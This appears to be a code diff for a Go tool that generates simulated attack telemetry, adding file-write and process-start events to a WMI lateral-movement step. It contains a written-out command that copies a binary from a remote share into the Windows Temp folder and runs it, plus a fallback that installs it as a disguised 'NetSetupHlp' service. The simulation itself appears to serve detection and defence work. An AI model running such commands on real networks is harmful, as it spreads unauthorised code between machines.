@@ -169,7 +169,10 @@ func webshell(g *stage) {
 			m.Dst = h
 			var seen time.Time
 			if i < 2 {
-				*p, seen = s.RemoteWMI(r, t, m, `cmd.exe /c copy \\DIB-FS01\public\.t\nshlp.exe C:\Windows\Temp\nshlp.exe & C:\Windows\Temp\nshlp.exe`)
+				var cmd act.Proc
+				cmd, seen = s.RemoteWMI(r, t, m, `cmd.exe /c copy \\DIB-FS01\public\.t\nshlp.exe C:\Windows\Temp\nshlp.exe & C:\Windows\Temp\nshlp.exe`)
+				s.File(r, t.Add(900*time.Millisecond), cmd, `C:\Windows\Temp\nshlp.exe`)
+				*p, _ = s.Start(r, t.Add(1100*time.Millisecond), cmd.Actor, cmd, `C:\Windows\Temp\nshlp.exe`, `C:\Windows\Temp\nshlp.exe`)
 				g.hop(seen, act.On(fs), act.On(h), 135, stolen, "wmi", "T1047")
 			} else {
 				*p, seen = s.RemoteService(r, t, m, "NetSetupHlp", "nshlp.exe", "", 2_100_000)
